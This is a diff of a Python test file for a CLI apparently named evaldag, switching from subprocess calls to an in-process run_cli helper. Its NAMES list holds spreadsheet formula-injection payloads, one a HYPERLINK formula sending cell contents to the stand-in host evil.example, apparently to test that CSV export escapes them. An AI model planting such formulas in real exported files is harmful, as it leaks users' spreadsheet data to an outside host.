@@ -8,21 +8,20 @@ import csv
 import io
 import json
 import shutil
-import subprocess
-import sys
 from pathlib import Path
 
 import pytest
 
-EVALDAG = str(Path(sys.executable).with_name("evaldag"))
+from ..inprocess import run_cli
+
 NAMES = ['=HYPERLINK("https:evil.example?x="&A1,"click")', "+1+2", "-2+3", "@SUM(1+1)", "\tcmd", "\rcmd", "plain"]
 
 
 def _evaldag(*args) -> str:
-    """The command's standard output, its bytes decoded as they are (no newline translation)."""
-    done = subprocess.run([EVALDAG, *map(str, args)], capture_output=True)
-    assert done.returncode == 0, done.stderr.decode()
-    return done.stdout.decode("utf-8")
+    """The command's standard output as it writes it (no newline translation), run in the test's process."""
+    done = run_cli(list(args))
+    assert done.returncode == 0, done.stderr
+    return done.stdout
 
 
 def _read(path: Path) -> str:
